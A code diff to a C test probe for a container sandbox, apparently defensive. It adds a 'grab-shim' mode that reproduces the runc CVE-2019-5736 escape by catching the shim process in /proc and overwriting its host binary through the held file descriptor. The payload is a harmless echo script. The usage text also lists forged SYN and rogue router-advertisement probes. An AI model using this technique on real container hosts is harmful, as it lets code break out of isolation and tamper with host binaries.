@@ -10,6 +10,8 @@
  *   jbox-probe syn IF GW DST PORT   a forged TCP SYN to DST:PORT sent on IF as a frame to the MAC
  *                              of gateway GW (needs NET_RAW): "synack" if one came back, else "none"
  *   jbox-probe ra IF           three IPv6 router advertisements for 2001:db8:66::/64 on IF (NET_RAW)
+ *   jbox-probe grab-shim DIR   CVE-2019-5736 from inside: catch exec's jbox-shim child in /proc, keep
+ *                              its exe, rewrite it later (DIR/result says how far; see grab_shim)
  */
 #define _GNU_SOURCE
 #include <dirent.h>
@@ -399,8 +401,121 @@ static const char *errno_name(int e)
 	}
 }
 
+/* DIR/result, whole or not at all: the test reads it while we run. */
+static void put_result(const char *dir, const char *text)
+{
+	char tmp[4096], path[4096];
+	snprintf(tmp, sizeof(tmp), "%s/result.tmp", dir);
+	snprintf(path, sizeof(path), "%s/result", dir);
+	FILE *f = fopen(tmp, "w");
+	if (!f || fputs(text, f) < 0 || fclose(f) != 0 || rename(tmp, path) < 0) {
+		perror("jbox-probe: result");
+		exit(2);
+	}
+}
+
+/* /proc/PID/cmdline's first argument, "" if gone (readable even when exe is not). */
+static const char *first_arg(const char *pid, char *buf, size_t size)
+{
+	char path[300];
+	snprintf(path, sizeof(path), "/proc/%s/cmdline", pid);
+	int fd = open(path, O_RDONLY | O_CLOEXEC);
+	ssize_t n = fd < 0 ? -1 : read(fd, buf, size - 1);
+	if (fd >= 0)
+		close(fd);
+	buf[n > 0 ? n : 0] = 0;
+	return buf;
+}
+
+/* As the container's PID 1 the probe must outlive the exec it caught: its end would kill that. */
+static __attribute__((noreturn)) int stay(void)
+{
+	for (;;)
+		pause();
+}
+
+/* Holding the shim's exe: wait for DIR/go, then truncate and rewrite the binary through the fd. */
+static int rewrite(const char *dir, int fd, const char *link)
+{
+	char path[300], text[8192];
+	snprintf(text, sizeof(text), "grabbed %s\n", link);
+	put_result(dir, text);
+	snprintf(path, sizeof(path), "%s/go", dir);
+	while (access(path, F_OK) != 0)
+		usleep(10000);
+	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
+	int w = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC);
+	const char payload[] = "#!/bin/sh\necho overwritten from a container\n";
+	int ok = w >= 0 && write(w, payload, sizeof(payload) - 1) == (ssize_t)sizeof(payload) - 1;
+	snprintf(text + strlen(text), sizeof(text) - strlen(text), "write %s\n", ok ? "ok" : errno_name(errno));
+	put_result(dir, text);
+	return stay();
+}
+
+/*
+ * Follows one process that runs jbox-shim (exec's child, until its execve): the moment its
+ * /proc/PID/exe opens, the fd is kept (rewrite). Returns if the process went before any answer;
+ * writes "denied ERRNO" (and stays) if it was refused the link until its execve or its end.
+ */
+static void follow(const char *dir, const char *pid)
+{
+	char path[300], link[4096];
+	int denied = 0;
+	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
+	for (;;) {
+		int fd = open(path, O_PATH | O_CLOEXEC);
+		if (fd < 0 && (errno == EACCES || errno == EPERM)) {
+			denied = errno;
+			continue;
+		}
+		if (fd < 0)
+			break; /* gone (a zombie has no exe) */
+		char self[64];
+		snprintf(self, sizeof(self), "/proc/self/fd/%d", fd);
+		ssize_t n = readlink(self, link, sizeof(link) - 1);
+		link[n > 0 ? n : 0] = 0;
+		if (strstr(link, "jbox-shim"))
+			rewrite(dir, fd, link);
+		close(fd);
+		break; /* it reached its execve: that is the workload's binary */
+	}
+	if (denied) {
+		snprintf(link, sizeof(link), "denied %s\n", errno_name(denied));
+		put_result(dir, link);
+		stay();
+	}
+}
+
+/*
+ * runc's CVE-2019-5736 from inside: say DIR/ready, then spin over /proc for a process whose first
+ * argument names jbox-shim (the test runs `exec ID true`) and follow it. DIR/result says how far
+ * the attack got: "grabbed LINK" then "write ok|ERRNO", or "denied ERRNO".
+ */
+static __attribute__((noreturn)) int grab_shim(const char *dir)
+{
+	char path[300], arg[4096];
+	snprintf(path, sizeof(path), "%s/ready", dir);
+	close(open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644));
+	for (;;) {
+		DIR *d = opendir("/proc");
+		struct dirent *e;
+		while (d && (e = readdir(d)) != NULL) {
+			if (e->d_name[0] < '1' || e->d_name[0] > '9' || atoi(e->d_name) == getpid())
+				continue;
+			const char *a = first_arg(e->d_name, arg, sizeof(arg)), *base = strrchr(a, '/');
+			if (strcmp(base ? base + 1 : a, "jbox-shim") == 0)
+				follow(dir, e->d_name);
+		}
+		if (d)
+			closedir(d);
+		sched_yield();
+	}
+}
+
 int main(int argc, char **argv)
 {
+	if (argc == 3 && strcmp(argv[1], "grab-shim") == 0)
+		return grab_shim(argv[2]);
 	if (argc == 3 && strcmp(argv[1], "shm") == 0) {
 		int id = shmget((key_t)strtol(argv[2], NULL, 0), 0, 0);
 		printf("%s\n", id >= 0 ? "visible" : "invisible");
@@ -440,6 +555,6 @@ int main(int argc, char **argv)
 	if (argc == 3 && strcmp(argv[1], "ra") == 0)
 		return router_advertisements(argv[2]);
 	fprintf(stderr, "usage: jbox-probe shm|shm-create KEY | shm-remove ID | try ATTEMPT... | fds | ping ADDR"
-			" | syn IF GW DST PORT | ra IF\n");
+			" | syn IF GW DST PORT | ra IF | grab-shim DIR\n");
 	return 2;
 }
